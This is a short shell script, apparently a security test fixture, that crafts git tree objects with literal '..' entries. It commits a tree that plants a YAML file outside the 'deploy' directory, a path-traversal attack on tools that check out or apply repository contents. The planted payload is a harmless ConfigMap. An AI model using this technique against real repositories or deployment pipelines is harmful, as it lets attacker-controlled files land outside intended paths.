# hand-build git trees as an attacker would: `git hash-object --literally` takes any entry name
blob() { git hash-object -w --stdin; }
entry() { printf "%s %s\0" "$1" "$2"; printf "$(printf %s "$3" | sed "s/../\\\\x&/g")"; }
tree() { git hash-object -t tree --literally -w --stdin; }
commit() { git update-ref HEAD "$(git commit-tree "$1" -p HEAD -m crafted)"; }
deploy=$(git rev-parse HEAD:deploy)
payload=$(printf "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: planted\n" | blob)

target=$( { entry 100644 secret.yaml "$payload"; } | tree)
t=$( { entry 40000 "$(basename "$OUTSIDE")" "$target"; } | tree)
t=$( { entry 40000 .. "$t"; } | tree)
t=$( { entry 40000 .. "$t"; } | tree)
t=$( { entry 100644 a.yaml "$(git rev-parse HEAD:deploy/a.yaml)"; entry 40000 .. "$t"; } | tree)
commit "$( { entry 40000 deploy "$t"; } | tree)"
